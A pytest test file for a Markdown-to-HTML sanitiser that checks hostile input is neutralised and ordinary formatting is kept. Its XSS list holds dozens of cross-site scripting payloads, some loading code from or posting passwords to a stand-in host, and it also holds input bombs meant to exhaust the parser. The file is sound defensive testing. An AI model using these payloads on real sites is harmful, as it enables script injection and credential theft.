"""Markdown to safe HTML: what people mean stays, what attackers mean does not."""

import re

import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st

from ideas.text.markdown import DEEPEST_NESTING, MOST_GROWTH, ROOM, TooDeep, TooLarge, safe_html

HARMLESS = {
    "p", "br", "hr", "h3", "h4", "h5", "h6", "strong", "em", "del", "code", "pre", "blockquote",
    "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>klik</a>",
    "<a href='x' onclick='alert(1)'>klik</a>",
    "<div style='background:url(javascript:alert(1))'>",
    "<form action=//evil.example><input name=password><button>OK</button></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "[klik](javascript:alert(1))",
    "[klik](JaVaScRiPt:alert(1))",
    "[klik](java&#x73;cript:alert(1))",
    "[klik](java%73cript:alert(1))",
    "[klik](&#106;&#97;&#118;&#97;script:alert(1))",
    "[klik](\x01javascript:alert(1))",
    "[klik](java\tscript:alert(1))",
    "[klik](<java\nscript:alert(1)>)",
    "[klik](vbscript:msgbox(1))",
    "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[klik](file:///etc/passwd)",
    '[klik](http://a"onmouseover=alert(1)//)',
    '[klik](<http://a" onmouseover=alert(1)>)',
    "[klik](http://a 'titel\" onmouseover=alert(1)')",
    "[klik][x]\n\n[x]: javascript:alert(1)",
    "[klik][x]\n\n[x]: http://a \"t' onmouseover='alert(1)\"",
    "<javascript:alert(1)>",
    '<http://a"onmouseover=alert(1)>',
    "![x](javascript:alert(1))",
    "![x](http://evil.example/pixel.png)",
    '![x" onerror="alert(1)](http://evil.example)',
    "`<script>alert(1)</script>`",
    '```html" onmouseover="alert(1)\n<script>alert(1)</script>\n```',
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [k](javascript:alert(1)) | c |",
    "- [ ] <img src=x onerror=alert(1)>",
    "# <script>alert(1)</script>",
    'www.evil.example/"onmouseover=alert(1)',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<a href="&#x6A;avascript:alert(1)">klik</a>',
    "<h2 onclick=alert(1)>kop</h2>",
    "\x00<script>alert(1)</script>",
]

BOMBS = {
    "quotes": ">" * 20_000 + "a",
    "quotes with spaces": "> " * 10_000 + "a",
    "lists": "".join("  " * depth + "- a\n" for depth in range(400)),
    "lists on one line": "- " * 10_000 + "a",
    "numbers on one line": "1. " * 6_000 + "a",
    "emphasis": "*a **b " * 3_000 + "c** d*" * 3_000,
    "emphasis that never closes": "*a " * 7_000,
    "underscores": "_a_" * 7_000,
    "open brackets": "[" * 20_000,
    "open and closed brackets": "[" * 10_000 + "a" + "](b)" * 2_500,
    "open images": "![" * 10_000,
    "links in links": "[a](" * 5_000,
    "backticks": "".join("e" + "`" * length for length in range(200)),
    "strikes": "~~a " * 5_000,
    "open tags": "<a" * 10_000,
    "open comments": "<!--" * 5_000,
    "open angle brackets": "<" * 20_000,
    "entities": "&" * 20_000,
    "references": "".join(f"[{n}]: /u\n" for n in range(1_500)) + "[1]" * 1_500,
    "a reference that is large": "[x]: /" + "u" * 10_000 + "\n" + "[x]" * 2_500,
    "a wide table": "|" + "a|" * 3_000 + "\n|" + "-|" * 3_000 + "\n" + "|" * 6_000,
    "a table of empty cells": "|" + "x|" * 100 + "\n|" + "-|" * 100 + "\n" + "a\n" * 9_700,
    "a table in a short text": "|" + "x|" * 50 + "\n|" + "-|" * 50 + "\n" + "a\n" * 2_400,
    "a table in a quote": ">|" + "x|" * 100 + "\n>|" + "-|" * 100 + "\n" + "a\n" * 9_700,
    "a table without bars at its ends": "x|" * 100 + "x\n" + "-|" * 100 + "-\n" + "a\n" * 9_700,
    "many tables": ("|" + "x|" * 40 + "\n|" + "-|" * 40 + "\n" + "a\n" * 150 + "\n") * 40,
    "a reference with a large title": '[x]: / "' + "&" * 2_000 + '"\n' + "[x]" * 5_900,
    "addresses": "www." * 5_000,
    "at signs": "a@" * 10_000,
    "schemes": "http://" * 2_500,
    "headings": "# a\n" * 5_000,
    "line ends": "\n" * 20_000,
    "backslashes": "\\" * 20_000,
    "quotes and lists in turn": "> - " * 5_000 + "a",
    "marks": "*_" * 10_000 + "a",
}


def assert_harmless(html):
    """Only tags and attributes that we know, and links that lead to a page or a mailbox."""
    for tag in BeautifulSoup(html, "html.parser").find_all(True):
        assert tag.name in HARMLESS, html[:300]
        assert set(tag.attrs) <= {"a": {"href", "title", "rel"}, "ol": {"start"}}.get(tag.name, set()), html[:300]
        if "href" in tag.attrs:
            address = tag["href"].strip().lower()
            assert not re.match(r"[a-z][a-z0-9+.-]*:", address) or address.startswith(("http:", "https:", "mailto:"))


@pytest.mark.parametrize("attack", XSS, ids=range(len(XSS)))
def test_an_attack_comes_out_harmless(attack):
    assert_harmless(safe_html(attack))


@pytest.mark.parametrize("attack", XSS, ids=range(len(XSS)))
def test_an_attack_inside_a_list_comes_out_harmless(attack):
    assert_harmless(safe_html(f"- een\n- {attack}\n\n> {attack}\n\n**{attack}**"))


@pytest.mark.parametrize("bomb", BOMBS)
def test_a_bomb_is_refused_or_harmless(bomb):
    try:
        html = safe_html(BOMBS[bomb])
    except (TooDeep, TooLarge):
        return
    assert_harmless(html)
    # The sanitiser adds a few words to every link.
    assert len(html) <= 2 * (MOST_GROWTH * len(BOMBS[bomb]) + ROOM)


@pytest.mark.parametrize("bomb", [name for name in BOMBS if name.startswith(("a table", "many tables"))])
def test_a_table_that_is_hardly_filled_in_is_refused(bomb):
    with pytest.raises(TooLarge):
        safe_html(BOMBS[bomb])


def test_html_that_outgrows_its_text_is_refused():
    with pytest.raises(TooLarge):
        safe_html(BOMBS["a reference with a large title"])


@pytest.mark.parametrize("bomb", ["lists on one line", "quotes with spaces", "quotes and lists in turn"])
def test_what_is_nested_without_end_is_refused(bomb):
    with pytest.raises(TooDeep):
        safe_html(BOMBS[bomb])


def test_quotes_inside_quotes_are_allowed_down_to_a_depth():
    assert safe_html("> " * (DEEPEST_NESTING - 1) + "a").count("<blockquote>") == DEEPEST_NESTING - 1
    with pytest.raises(TooDeep):
        safe_html("> " * DEEPEST_NESTING + "a")


@given(st.text(st.sampled_from("<>/\"'=&;:()[]!`*_~#-|\\ \n\tascriptjvonerx1"), max_size=80))
def test_any_markup_comes_out_harmless(text):
    try:
        html = safe_html(text)
    except TooDeep:
        return
    assert_harmless(html)


@given(st.lists(st.sampled_from(XSS), max_size=4), st.sampled_from(["", "\n", "\n\n", " "]))
def test_attacks_in_a_row_come_out_harmless(attacks, between):
    assert_harmless(safe_html(between.join(attacks)))


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("**Let op**", "<p><strong>Let op</strong></p>"),
        ("*zacht*", "<p><em>zacht</em></p>"),
        ("~~weg~~", "<p><del>weg</del></p>"),
        ("> citaat", "<blockquote>\n<p>citaat</p>\n</blockquote>"),
        ("- een\n- twee", "<ul>\n<li>een</li>\n<li>twee</li>\n</ul>"),
        ("3. een", '<ol start="3">\n<li>een</li>\n</ol>'),
        ("a < b & c", "<p>a &lt; b &amp; c</p>"),
        ("`x < y`", "<p><code>x &lt; y</code></p>"),
    ],
)
def test_what_people_mean_stays(markdown, html):
    assert safe_html(markdown).strip() == html


def test_a_table_stays():
    html = safe_html("| a | b |\n|---|---|\n| c | d |")
    assert [cell.text for cell in BeautifulSoup(html, "html.parser").find_all(["th", "td"])] == ["a", "b", "c", "d"]


def test_a_large_table_that_is_filled_in_stays():
    row = "| Buurt | Balie | Maandag | Dinsdag | Woensdag | Donderdag |\n"
    html = safe_html(row + "|---|---|---|---|---|---|\n" + row * 300)
    assert html.count("<td>") == 6 * 300


@pytest.mark.parametrize(
    "address", ["https://vng.nl/x?a=1", "http://vng.nl", "mailto:anna@gemeente.example", "/ideas/1"]
)
def test_a_link_leads_where_its_author_meant(address):
    link = BeautifulSoup(safe_html(f"[klik]({address})"), "html.parser").a
    assert link["href"] == address


def test_a_link_is_not_recommended_to_search_engines():
    link = BeautifulSoup(safe_html("[klik](https://vng.nl)"), "html.parser").a
    assert set(link["rel"]) == {"nofollow", "ugc", "noopener"}


def test_a_bare_address_becomes_a_link():
    assert BeautifulSoup(safe_html("Zie https://vng.nl/x."), "html.parser").a["href"] == "https://vng.nl/x"


def test_the_highest_heading_stands_below_those_of_the_page():
    assert re.findall(r"<(h\d)>", safe_html("# een\n\n## twee\n\n###### zes")) == ["h3", "h4", "h6"]


def test_headings_that_begin_lower_move_up():
    assert re.findall(r"<(h\d)>", safe_html("#### een\n\n##### twee")) == ["h3", "h4"]


def test_no_text_is_no_html():
    assert safe_html("") == ""


@pytest.mark.parametrize(
    "typed", ["Mail <naam>@gemeente.nl", "Vul <bedrag> in", "1 <b>vet</b>", "<!DOCTYPE x>", "<?x?>"]
)
def test_what_looks_like_a_tag_is_shown_as_it_was_typed(typed):
    assert BeautifulSoup(safe_html(typed), "html.parser").get_text().strip() == typed


def test_a_tag_in_code_is_shown_as_it_was_typed():
    assert "<code>&lt;naam&gt;</code>" in safe_html("Schrijf `<naam>`")


@pytest.mark.parametrize("address", ["https://vng.nl/x", "balie@gemeente.example"])
def test_an_address_between_brackets_is_a_link(address):
    assert BeautifulSoup(safe_html(f"Zie <{address}>."), "html.parser").a.get_text() == address


def test_a_link_that_may_lead_nowhere_is_plain_text():
    assert safe_html("Druk [hier](javascript:alert(1)) maar") == "<p>Druk hier maar</p>\n"


def test_a_new_line_is_a_new_line():
    assert safe_html("Regel een\nRegel twee") == "<p>Regel een<br>\nRegel twee</p>\n"
